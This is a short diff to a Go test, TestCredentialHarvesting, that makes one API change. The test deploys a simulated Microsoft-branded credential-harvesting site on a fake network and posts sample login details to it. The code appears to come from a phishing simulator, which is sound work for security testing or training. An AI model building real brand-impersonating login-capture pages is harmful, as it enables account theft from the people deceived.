@@ -84,7 +84,7 @@ func TestCredentialHarvesting(t *testing.T) {
 	net := newNet()
 	site := Deploy(net, SiteConfig{Host: "harvest.buzz", Brand: BrandMicrosoft})
 	// Post credentials the way the form would.
-	_, err := net.Do(&webnet.Request{
+	_, err := net.Do(context.Background(), &webnet.Request{
 		Method: "POST", Host: "harvest.buzz", Path: "/session",
 		Body:     "email=victim%40corp.example&password=hunter2",
 		ClientIP: "10.5.5.5",
